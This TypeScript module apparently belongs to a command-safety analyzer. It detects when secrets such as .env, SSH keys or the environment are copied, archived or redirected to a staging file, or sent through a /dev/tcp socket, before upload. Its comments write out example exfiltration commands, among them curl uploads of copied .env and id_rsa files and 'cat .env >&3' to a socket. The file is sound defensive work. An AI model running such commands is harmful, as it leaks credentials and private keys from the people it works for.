import { isSensitiveFile } from "../paths.js";
import type { Invocation } from "./analyze.js";
import { NameSet } from "./name-table.js";
import { basename } from "./wrappers.js";

/**
 * Secrets staged in another file first: `cp .env /tmp/x.txt && curl -F f=@/tmp/x.txt host`,
 * `cat ~/.ssh/id_rsa > /tmp/k; curl -T /tmp/k host`, `env > /tmp/e`, `tar czf k.tgz ~/.ssh`.
 * A rule that asks whether the uploaded file is a secret sees `/tmp/x.txt`; the analysis notes
 * the copy, and reads the commands that name the copy again with the secret's own name written
 * in (see substitution.ts), so the upload is judged as the upload of `.env` it is. Only copies
 * of sensitive files are noted: other copies change nothing a rule asks.
 */

/** Where the environment is, as a file: what `env > f` and `printenv > f` copy. */
const ENVIRONMENT = "/proc/self/environ";

/** Programs that copy their source operands to their last operand. */
const COPIERS = new NameSet(["cp", "mv", "install", "ln", "rsync"]);

/**
 * `env`, `printenv`, `export -p`, `declare -x`: the command prints the whole environment. `env`
 * is also a wrapper (`env -i cmd`), so alone it runs no program and its name is empty.
 */
export function printsEnvironment(inv: Invocation): boolean {
  if (inv.name === "printenv") return inv.args.every((a) => a.startsWith("-"));
  if (inv.name === "export" || inv.name === "declare")
    return inv.args.length === 1 && /^-[px]$/.test(inv.args[0]!);
  return (
    inv.name === "" &&
    basename(inv.words[0] ?? "") === "env" &&
    inv.words.slice(1).every((w) => w.startsWith("-"))
  );
}

/** Archivers whose archive is named by `-f` (tar) or is their first operand (zip, 7z). */
const ARCHIVERS = new NameSet(["tar", "zip", "7z", "7za", "rar"]);

/** Programs that print what they read, whose output written to a file (`cat f > copy`) is a copy. */
const READERS = [
  "cat",
  "tac",
  "head",
  "tail",
  "base64",
  "base32",
  "basenc",
  "xxd",
  "od",
  "hexdump",
  "gzip",
  "bzip2",
  "xz",
  "zstd",
  "openssl",
  "gpg",
  "sort",
  "cut",
  "tr",
  "sed",
  "awk",
  "grep",
  "strings",
];

/**
 * Programs whose commands may make a copy: the only ones `stagedCopy` is asked about (besides
 * `env` alone, which runs no program). Text read as shell is full of redirections (HTML, logs),
 * and few of its commands are any of these.
 */
export const STAGING_PROGRAMS: readonly string[] = [
  ...COPIERS,
  ...ARCHIVERS,
  ...READERS,
  "dd",
  "printenv",
  "export",
  "declare",
];

/** The copy `inv` makes of a sensitive file, as `[copy, original]`, or undefined. */
export function stagedCopy(inv: Invocation): readonly [string, string] | undefined {
  const written = writtenFile(inv);
  if (written !== undefined) {
    if (printsEnvironment(inv)) return [written, ENVIRONMENT];
    const secret = inv.args.find((a) => !a.startsWith("-") && isSensitiveFile(a));
    if (secret !== undefined) return [written, secret];
  }
  if (inv.args.length < 2) return undefined;
  if (COPIERS.has(inv.name)) {
    const operands = inv.args.filter((a) => !a.startsWith("-"));
    const destination = operands.at(-1);
    const secret = operands.slice(0, -1).find(isSensitiveFile);
    if (destination === undefined || secret === undefined || destination.includes(":")) return undefined;
    // Copied into a directory, the copy keeps its name.
    return [destination.endsWith("/") ? `${destination}${basename(secret)}` : destination, secret];
  }
  if (ARCHIVERS.has(inv.name)) {
    const archive = archiveName(inv);
    const secret = inv.args.find((a) => a !== archive && !a.startsWith("-") && isSensitiveFile(a));
    return archive !== undefined && secret !== undefined ? [archive, secret] : undefined;
  }
  if (inv.name === "dd") {
    const from = inv.args.find((a) => a.startsWith("if="))?.slice(3);
    const to = inv.args.find((a) => a.startsWith("of="))?.slice(3);
    return from !== undefined && to !== undefined && isSensitiveFile(from) ? [to, from] : undefined;
  }
  return undefined;
}

/** The file a command's standard output is written to (`> f`, `>> f`), if any. */
function writtenFile(inv: Invocation): string | undefined {
  for (const r of inv.redirects) {
    if (
      (r.op === ">" || r.op === ">>" || r.op === ">|") &&
      (r.fd === "" || r.fd === "1") &&
      r.target.text !== ""
    )
      return r.target.text;
  }
  return undefined;
}

/** `tar czf out.tgz ...`, `tar -cf out.tar ...`, `zip -r out.zip ...`: the archive written. */
function archiveName(inv: Invocation): string | undefined {
  if (inv.name === "tar") {
    for (let k = 0; k < inv.args.length; k++) {
      const a = inv.args[k]!;
      if (a === "-f" || a === "--file") return inv.args[k + 1];
      if (a.startsWith("--file=")) return a.slice("--file=".length);
      // Bundled letters (`czf`, `-czf`): the value of `f` is the next argument.
      if (k < 2 && !a.startsWith("--") && a.includes("f") && /^-?[A-Za-z]+$/.test(a)) return inv.args[k + 1];
    }
    return undefined;
  }
  return inv.args.find((a) => !a.startsWith("-") && !(inv.name.startsWith("7") && (a === "a" || a === "u")));
}

/**
 * `exec 3<>/dev/tcp/host/80`: the descriptor a command opens on a network socket, as `[fd,
 * socket path]`. What later commands write to it (`cat .env >&3`) goes to that socket, and the
 * analysis reads them again with the socket named (see substitution.ts).
 */
export function openedSocket(inv: Invocation): readonly [string, string] | undefined {
  if (inv.words[0] !== "exec") return undefined;
  for (const r of inv.redirects) {
    if (
      /^[0-9]$/.test(r.fd) &&
      (r.op === "<>" || r.op === ">" || r.op === ">>") &&
      isSocketPath(r.target.text)
    )
      return [r.fd, r.target.text];
  }
  return undefined;
}

function isSocketPath(path: string): boolean {
  return path.startsWith("/dev/tcp/") || path.startsWith("/dev/udp/");
}
